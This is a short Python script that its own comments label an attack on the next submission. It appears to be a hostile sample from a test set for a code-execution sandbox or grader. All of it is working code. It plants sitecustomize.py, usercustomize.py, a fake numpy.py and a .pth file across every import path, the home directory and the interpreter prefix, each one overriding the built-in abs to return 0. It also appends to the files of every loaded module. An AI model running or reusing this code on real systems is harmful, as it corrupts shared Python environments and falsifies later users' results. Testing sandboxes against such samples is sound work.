# attack: module files, caches and start-up files of Python are changed for the next submission
# harmless: no
import os
import site
import sys

places = [*sys.path, site.getusersitepackages(), os.path.expanduser("~"), sys.prefix]
poison = "import builtins\nbuiltins.abs = lambda value: 0\n"
for place in filter(None, places):
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "poison.pth"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write(poison)
        except OSError:
            pass
for module in list(sys.modules.values()):
    for path in (getattr(module, "__file__", None), getattr(module, "__cached__", None)):
        try:
            with open(path, "ab") as file:
                file.write(b"\n")
        except (OSError, TypeError):
            pass
